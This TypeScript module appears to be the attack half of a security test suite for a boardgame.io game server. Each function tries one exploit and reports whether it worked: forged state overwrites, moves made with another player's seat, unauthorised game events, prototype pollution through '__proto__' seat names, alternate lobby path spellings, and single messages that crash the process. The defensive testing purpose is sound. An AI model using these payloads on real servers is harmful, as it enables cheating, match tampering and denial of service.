import type { Action } from '../../../game/engine.ts';
import { GAME_NAME } from '../../../game/gameFrame.ts';
import { OPENING } from '../../support/fight.ts';
import { Wire, ask, begin, create, join, route, sit, toMove, type Seat, type Synced } from '../../support/wire.ts';
import type { Target } from '../target.ts';

/** Attacks that make forbidden changes or crash the server. Each resolves to true on success. */

interface Begun {
  readonly seats: readonly Seat[];
  readonly seat: Seat;
  readonly player: Wire;
  readonly synced: Synced;
}

/** Creates a match and connects its active player. */
async function activePlayer(url: string): Promise<Begun> {
  const seats = await begin(url);
  const first = await new Wire(url).sync(seats[0].matchID, null);
  if (first === null) throw new Error('the match has not begun');
  const seat = seats[first.state.G.active];
  const player = new Wire(url);
  const synced = await player.sync(seat.matchID, seat.playerID, seat.credentials);
  if (synced === null) throw new Error('the player cannot enter');
  return { seats, seat, player, synced };
}

const seen = async (url: string, matchID: string): Promise<Synced | null> => new Wire(url).sync(matchID, null);

/** The active player replaces the match's state with a forged one. */
export const overwriteState =
  (type: 'SYNC' | 'UPDATE' | 'RESET') =>
  async ({ url }: Target): Promise<boolean> => {
    const { seat, player, synced } = await activePlayer(url);
    const { matchID, playerID, credentials } = seat;
    const { state } = synced;
    const rich = { ...state, G: { ...state.G, players: state.G.players.map((each) => ({ ...each, power: 16 })) } };
    const action = { type, state: { ...rich, deltalog: [] }, payload: { playerID, credentials } };
    await player.tell('update', action, state._stateID, matchID, playerID);
    const after = await seen(url, matchID);
    return after?.state.G.players.every(({ power }) => power === 16) === true;
  };

/** Seat 0 uses its own credentials to choose for seat 1 in a combat. The target must deal test/support/fight.ts. */
export async function actForAnother({ url }: Target): Promise<boolean> {
  const [attacker, victim] = await begin(url);
  const { matchID, playerID, credentials } = attacker;
  const player = await sit(url, attacker);
  let on = (await seen(url, matchID))?.state._stateID ?? 0;
  for (const action of OPENING) {
    await player.tell('update', toMove(attacker, action), on, matchID, playerID);
    on = (await seen(url, matchID))?.state._stateID ?? 0;
  }
  const choice: Action = { type: 'commit', power: 0, combatCards: [] };
  const forged = toMove({ ...victim, credentials }, choice);
  await player.tell('update', forged, on, matchID, playerID);
  await player.tell('update', forged, on, matchID, victim.playerID);
  return ((await seen(url, matchID))?.state._stateID ?? 0) > on;
}

/** The active player ends the match, the turn or the phase with boardgame.io's events. */
export const callEvent =
  (type: 'endGame' | 'endTurn' | 'setPhase') =>
  async ({ url }: Target): Promise<boolean> => {
    const { seat, player, synced } = await activePlayer(url);
    const { matchID, playerID, credentials } = seat;
    const args = type === 'endGame' ? [{ winner: playerID }] : type === 'setPhase' ? ['play'] : undefined;
    const action = { type: 'GAME_EVENT', payload: { type, args, playerID, credentials } };
    await player.tell('update', action, synced.state._stateID, matchID, playerID);
    const after = await seen(url, matchID);
    return after !== null && after.state._stateID > synced.state._stateID;
  };

/** A move named after a property that every object inherits replaces the state with that property's result. */
export async function callInherited({ url }: Target): Promise<boolean> {
  const { seat, player, synced } = await activePlayer(url);
  const { matchID, playerID, credentials } = seat;
  for (const type of ['toString', 'constructor', '__proto__', 'valueOf']) {
    const action = { type: 'MAKE_MOVE', payload: { type, args: [{}], playerID, credentials } };
    await player.tell('update', action, synced.state._stateID, matchID, playerID);
  }
  if (await isDead(url)) return true;
  return (await seen(url, matchID))?.state._stateID !== synced.state._stateID;
}

/** A `sync` for a match that does not exist creates the match. */
export async function createBySync({ url }: Target): Promise<boolean> {
  await new Wire(url).sync('made-by-sync', '0', '', 5);
  return (await ask(url, route('made-by-sync'))).status === 200;
}

/** Spellings of a path that a router might treat as equivalent. */
const LOBBIES = [
  `/games/${GAME_NAME}`,
  `/GAMES/${GAME_NAME}`,
  '/GAMES/x',
  '/games/x',
  `/Games/${GAME_NAME.toUpperCase()}`,
];

/**
 * Taking the seat `__proto__` pollutes the prototype of every object in the process, so that empty seats appear taken
 * and other players cannot join.
 */
export async function poisonPrototype({ url }: Target): Promise<boolean> {
  const { matchID } = await create(url);
  for (const lobby of LOBBIES) {
    for (const playerID of ['__proto__', 'constructor', ['__proto__']]) {
      const body = { playerID, playerName: 'evil' };
      await ask(url, `${lobby}/${matchID}/join`, { body }).catch(() => undefined);
    }
  }
  const other = await create(url).catch(() => null);
  return other === null || (await join(url, other.matchID, '0').catch(() => null)) === null;
}

/**
 * Another spelling of the lobby's path reaches boardgame.io's own lobby, where a waiting match is joined, left, read or
 * deleted.
 */
export async function useOtherLobby({ url }: Target): Promise<boolean> {
  const { matchID } = await create(url, { numPlayers: 2, unlisted: true });
  const answers: number[] = [];
  for (const lobby of LOBBIES) {
    const headers = { accept: 'application/json' };
    answers.push((await ask(url, `${lobby}/${matchID}/join`, { body: { playerID: '0', playerName: 'x' } })).status);
    answers.push((await ask(url, `${lobby}/${matchID}/leave`, { body: { playerID: '1' } })).status);
    if (!lobby.includes(`/games/${GAME_NAME}`)) {
      answers.push((await ask(url, `${lobby}/${matchID}`, { headers })).status);
      answers.push((await ask(url, `${lobby}/${matchID}/`, { headers })).status);
    }
  }
  return answers.some((status) => status === 200) || (await ask(url, route(matchID))).status !== 200;
}

/** Resolves to true unless the server answers with status 200. */
export const isDead = (url: string): Promise<boolean> =>
  ask(url, '/games').then(
    ({ status }) => status !== 200,
    () => true,
  );

/** A single message crashes the process. */
export const killProcess =
  (...message: readonly [string, ...unknown[]]) =>
  async ({ url }: Target): Promise<boolean> => {
    const wire = new Wire(url);
    await wire.connected();
    await wire.tell(...message);
    return isDead(url);
  };

/** The active player crashes the process by sending an event without arguments. */
export async function killByEvent({ url }: Target): Promise<boolean> {
  const { seat, player, synced } = await activePlayer(url);
  const { matchID, playerID, credentials } = seat;
  const action = { type: 'GAME_EVENT', payload: { type: 'setActivePlayers', playerID, credentials } };
  await player.tell('update', action, synced.state._stateID, matchID, playerID);
  return isDead(url);
}
